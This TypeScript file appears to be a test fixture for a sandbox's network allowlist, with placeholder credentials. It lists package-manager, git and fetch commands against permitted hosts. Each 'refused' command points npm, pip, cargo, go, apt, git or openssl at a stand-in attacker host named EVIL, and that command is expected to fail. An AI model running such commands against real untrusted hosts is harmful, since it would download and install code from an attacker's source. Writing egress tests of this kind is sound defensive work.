/** A program that people use, in a box whose list has what it needs. It is tried as they would use it. */
export interface Client {
  readonly name: string;
  /** The programs that have to be there. */
  readonly needs: readonly string[];
  /** What it does at a listed host, in a directory of its own. */
  readonly line: string;
  /** The end of what it prints then. */
  readonly gives: string;
  /** The same at a host that is not listed, called EVIL. It fails. */
  readonly refused: string;
  /** Why this one cannot be tried, when this line of shell fails. */
  readonly unless?: { readonly line: string; readonly reason: string };
}

const NPM =
  "npm install --loglevel=error --no-audit --no-fund --cache=cache --userconfig=own --globalconfig=all --fetch-retries=0";
const PIP =
  "/opt/python/bin/python -m pip install -q --no-cache-dir --disable-pip-version-check --retries=0 --target=out";
const UV = "/opt/python/bin/uv pip install -q --no-cache --python=/usr/bin/python3 --target=out";
const CARGO = `mkdir src; touch src/lib.rs; printf '[package]\\nname="p"\\nversion="0.1.0"\\nedition="2021"\\n[dependencies]\\ngreeting="0.1"\\n' > Cargo.toml`;
const CARGO_HOME = "export CARGO_HOME=$PWD/cargo CARGO_NET_RETRY=0";
const GO =
  "export GOPATH=$PWD/go GOCACHE=$PWD/cache GOFLAGS=-modcacherw GONOSUMDB=* GOTOOLCHAIN=local; go mod init p 2>/dev/null";
const apt = (repository: string): string =>
  [
    "mkdir -p state/lists/partial cache/archives/partial",
    `echo 'deb [trusted=yes] ${repository} stable main' > sources.list`,
    "set -- -q -o Dir::State=$PWD/state -o Dir::State::status=/dev/null -o Dir::Cache=$PWD/cache -o Dir::Etc::SourceList=$PWD/sources.list -o Dir::Etc::SourceParts=- -o APT::Sandbox::User= -o Acquire::Retries=0 -o Acquire::https::CAInfo=$SSL_CERT_FILE",
    'apt-get "$@" update -o APT::Update::Error-Mode=any >log 2>&1 || { cat log >&2; exit 1; }',
    'apt-get "$@" download greeting >/dev/null',
    "cat greeting_1.0_all.deb",
  ].join("\n");
const git = (url: string): string =>
  `git clone -q ${url} copy && cd copy && date +%N > two && git add two && git commit -qm Two && git push -q && git fetch -q && git status -sb | head -1`;
const SSH = `export GIT_SSH_COMMAND="ssh -i $PWD/key -o StrictHostKeyChecking=accept-new -o UserKnownHostsFile=$PWD/known -o IdentitiesOnly=yes"; install -m 600 /workspace/registries/client-key key`;

export const CLIENTS: readonly Client[] = [
  {
    name: "npm",
    needs: ["npm"],
    line: `${NPM} greeting && node -p 'require("greeting")'`,
    gives: "hello from npm",
    refused: `${NPM} --registry=https://EVIL/ greeting`,
  },
  {
    name: "pip",
    needs: ["/opt/python/bin/pip"],
    line: `${PIP} greeting && cat out/greeting.py`,
    gives: 'text = "hello from PyPI"',
    refused: `${PIP} --index-url=https://EVIL/simple greeting`,
  },
  {
    name: "uv",
    needs: ["/opt/python/bin/uv"],
    line: `${UV} greeting && cat out/greeting.py`,
    gives: 'text = "hello from PyPI"',
    refused: `UV_HTTP_RETRIES=0 ${UV} --index-url=https://EVIL/simple greeting`,
  },
  {
    name: "cargo",
    needs: ["cargo"],
    unless: {
      line: "cargo fetch --help | grep -q . && cargo -V | awk '{ split($2, v, \".\"); exit !(v[2] >= 68) }'",
      reason: "it is older than registries over HTTP",
    },
    line: `${CARGO_HOME}; ${CARGO}; cargo fetch -q && cat cargo/registry/src/*/greeting-0.1.0/src/lib.rs`,
    gives: "// hello from crates.io",
    refused: `${CARGO_HOME}; ${CARGO}; mkdir .cargo; printf '[source.crates-io]\\nreplace-with = "e"\\n[source.e]\\nregistry = "sparse+https://EVIL/"\\n' > .cargo/config.toml; cargo fetch -q`,
  },
  {
    name: "go",
    needs: ["go"],
    line: `${GO}; go get greeting.test/greeting@v0.1.0 2>/dev/null; cat go/pkg/mod/greeting.test/greeting@v0.1.0/greeting.go`,
    gives: "package greeting // hello from Go",
    refused: `${GO}; GOPROXY=https://EVIL go get greeting.test/greeting@v0.1.0`,
  },
  {
    name: "apt, by HTTP",
    needs: ["apt-get"],
    line: apt("http://deb.debian.org/debian"),
    gives: "hello from Debian",
    refused: apt("http://EVIL/debian"),
  },
  {
    name: "apt, by HTTPS",
    needs: ["apt-get"],
    line: apt("https://deb.debian.org/debian"),
    gives: "hello from Debian",
    refused: apt("https://EVIL/debian"),
  },
  {
    name: "git, by HTTPS",
    needs: ["git"],
    line: git("https://github.com/greeting.git"),
    gives: "## main...origin/main",
    refused: "git clone -q https://EVIL/greeting.git",
  },
  {
    name: "git, by ssh",
    needs: ["git", "ssh", "/workspace/registries/client-key"],
    line: `${SSH}; ${git("ssh://$SSH_USER@github.com$SSH_REPOSITORY")}`,
    gives: "## main...origin/main",
    refused: `${SSH}; git clone -q ssh://git@EVIL/greeting.git`,
  },
  {
    name: "openssl",
    needs: ["openssl"],
    line: "echo | openssl s_client -connect good.test:443 -servername good.test -verify_return_error -CAfile /workspace/ca.pem 2>/dev/null | grep 'Verify return code'",
    gives: "Verify return code: 0 (ok)",
    refused: "echo | openssl s_client -connect EVIL:443 -servername EVIL",
  },
];

/** What a box has placeholders of. */
export const SECRETS = {
  API_KEY: { host: "api.test", place: "header x-api-key", value: "the-key-of-the-user-0123456789" },
  GO_TOKEN: { host: "modules.test", place: "basic", value: "the-token-for-modules-0123456789" },
  GIT_TOKEN: { host: "code.test", place: "basic", value: "the-token-for-code-0123456789" },
} as const;

/** Programs with credentials, at hosts whose TLS is opened for them. */
export const OPENED_CLIENTS: readonly (Omit<Client, "refused"> & { readonly token: keyof typeof SECRETS })[] = [
  {
    name: "go",
    token: "GO_TOKEN",
    needs: ["go"],
    line: `${GO}; GOPROXY=https://user:$GO_TOKEN@modules.test go get greeting.test/greeting@v0.1.0 2>/dev/null; cat go/pkg/mod/greeting.test/greeting@v0.1.0/greeting.go`,
    gives: "package greeting // hello from Go",
  },
  {
    name: "git",
    token: "GIT_TOKEN",
    needs: ["git"],
    line: git("https://user:$GIT_TOKEN@code.test/greeting.git"),
    gives: "## main...origin/main",
  },
];

/** A program that fetches addresses: for each of $URLS, with $API_KEY where there is one, it prints what it got or that it got nothing. */
export interface Fetcher {
  readonly name: string;
  readonly needs: string;
  readonly line: string;
}

const PYTHON_EACH =
  "import os\nkey = {'x-api-key': os.environ['API_KEY']} if 'API_KEY' in os.environ else {}\nfor url in os.environ['URLS'].split():";
const URLLIB = `${PYTHON_EACH}
    try: print(urllib.request.urlopen(urllib.request.Request(url, headers=key)).read().decode().strip())
    except urllib.error.HTTPError as error: print(error.read().decode().strip())
    except urllib.error.URLError: print("nothing")`;
const REQUESTS = `${PYTHON_EACH}
    try: print(requests.get(url, headers=key).text.strip())
    except requests.ConnectionError: print("nothing")`;
const FETCH = `
const headers = process.env.API_KEY ? { "x-api-key": process.env.API_KEY } : {};
for (const url of process.env.URLS.split(" "))
  console.log(await fetch(url, { headers }).then((one) => one.text()).then((text) => text.trim(), () => "nothing"));`;
const JAVA = `
import java.io.*; import java.net.*; import java.net.http.*; import java.nio.file.*; import java.security.*; import java.security.cert.*; import javax.net.ssl.*;
public class Get { public static void main(String[] args) throws Exception {
  HttpClient.Builder builder = HttpClient.newBuilder();
  String ca = System.getenv("SSL_CERT_FILE"), key = System.getenv("API_KEY");
  if (key == null) {
    KeyStore store = KeyStore.getInstance(KeyStore.getDefaultType()); store.load(null, null);
    store.setCertificateEntry("ca", CertificateFactory.getInstance("X.509").generateCertificate(Files.newInputStream(Path.of(ca))));
    TrustManagerFactory trust = TrustManagerFactory.getInstance("PKIX"); trust.init(store);
    SSLContext context = SSLContext.getInstance("TLS"); context.init(null, trust.getTrustManagers(), null); builder.sslContext(context);
  }
  HttpClient client = builder.build();
  for (String url : System.getenv("URLS").split(" ")) {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(url));
    if (key != null) request.header("x-api-key", key);
    try { System.out.println(client.send(request.build(), HttpResponse.BodyHandlers.ofString()).body().trim()); }
    catch (ConnectException error) { System.out.println("nothing"); }
  }
} }`;
const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

export const FETCHERS: readonly Fetcher[] = [
  {
    name: "curl",
    needs: "curl",
    line: 'for url in $URLS; do curl -s -H "x-api-key: $API_KEY" $url || echo nothing; echo; done | grep .',
  },
  {
    name: "wget",
    needs: "wget",
    line: 'for url in $URLS; do wget -qO- --tries=1 --content-on-error --ca-certificate=$SSL_CERT_FILE --header="x-api-key: $API_KEY" $url || [ $? = 8 ] || echo nothing; echo; done | grep .',
  },
  { name: "urllib", needs: "python3", line: `python3 -c ${quoted(`import urllib.request, urllib.error\n${URLLIB}`)}` },
  {
    name: "requests",
    needs: "/opt/python/bin/python",
    line: `/opt/python/bin/python -c ${quoted(`import requests\n${REQUESTS}`)}`,
  },
  { name: "fetch", needs: "/workspace/node", line: `/workspace/node --input-type=module -e ${quoted(FETCH)}` },
  {
    name: "Java",
    needs: "javac",
    line: `printf %s ${quoted(JAVA)} > Get.java; java -XX:TieredStopAtLevel=1 -Xshare:auto Get.java`,
  },
];
